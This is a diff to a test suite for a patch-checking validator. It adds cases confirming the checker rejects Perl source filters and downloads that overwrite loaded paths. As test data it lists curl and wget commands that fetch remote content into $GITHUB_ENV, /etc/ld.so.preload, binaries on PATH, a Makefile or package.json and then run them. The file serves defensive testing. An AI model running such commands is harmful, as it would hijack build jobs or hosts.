@@ -88,6 +88,15 @@ describe('attack pass 12 (A): a declared source encoding decodes a comment into 
     });
   });
 
+  for (const [name, line] of [
+    ['a source filter', 'use Filter::Util::Call;'],
+    ['a source encoding', "use encoding 'utf7', Filter => 1;"],
+  ] as const) {
+    it(`refuses ${name} in Perl, which rewrites the rest of the file before it runs`, () => {
+      expect(checkPatch(newFile('lib/App/Timeout.pm', [line, 'my $timeout = 30;']))).toMatchObject({ ok: false, reason: expect.stringContaining('source-encoding') });
+    });
+  }
+
   for (const [name, path, lines] of [
     ['UTF-8', 'tests/test_a.py', ['# -*- coding: utf-8 -*-', 'TIMEOUT = 30']],
     ['utf8 in the short form', 'tests/test_a.py', ['# coding=utf8', 'TIMEOUT = 30']],
@@ -265,6 +274,12 @@ describe('attack pass 12 (D): writes that change what later steps of the job run
     ['a download saved as usercustomize.py', 'tests/test_env.py', `urlretrieve("${U}", os.path.join(site.USER_SITE, "usercustomize.py"))`],
     ['a download saved into node_modules', 'test/env.test.js', `execSync("wget -qO node_modules/lodash/index.js ${U}");`],
     ['a download saved as ~/.bashrc', 'tests/test_env.py', `os.system("curl -fsSL ${U} -o ~/.bashrc")`],
+    ['a download saved as $GITHUB_ENV, in documentation', 'docs/setup.md', `curl -fsSL ${U} -o $GITHUB_ENV`],
+    ['a download saved as /etc/ld.so.preload, in documentation', 'docs/setup.md', `curl -fsSL ${U} -o /etc/ld.so.preload`],
+    ['a download over a program on PATH, in documentation', 'docs/setup.md', `curl -fsSL ${U} -o /usr/local/bin/npm`],
+    ['a download into ~/.local/bin', 'tests/test_env.py', `os.system("wget -q ${U} -O ~/.local/bin/pytest")`],
+    ['a download saved as the Makefile CI runs', 'docs/setup.md', `curl -fsSL ${U} -o Makefile && make`],
+    ['a download saved as package.json', 'docs/setup.md', `curl -fsSL ${U} -o package.json && npm install`],
   ] as const) {
     it(`refuses ${name}`, () => {
       expect(checkPatch(patchAdding(path, [line]))).toMatchObject({ ok: false, reason: expect.stringMatching(/actions-environment-file|download-to-loaded-path/) });
@@ -276,6 +291,7 @@ describe('attack pass 12 (D): writes that change what later steps of the job run
     ['a job summary', 'tests/test_env.py', 'open(os.environ["GITHUB_STEP_SUMMARY"], "a").write("## results\\n")'],
     ['a fixture downloaded in a test', 'tests/test_env.py', `urllib.request.urlretrieve("${U}", "tests/data/sample.csv")`],
     ['a test reading conftest.py', 'tests/test_env.py', 'assert "fixture" in open("tests/conftest.py").read()'],
+    ['a check that curl is installed, in documentation', 'docs/setup.md', 'if [ -x /usr/bin/curl ]; then echo ok; fi'],
   ] as const) {
     it(`control: accepts ${name}`, () => {
       expect(checkPatch(patchAdding(path, [line]))).toMatchObject({ ok: true });
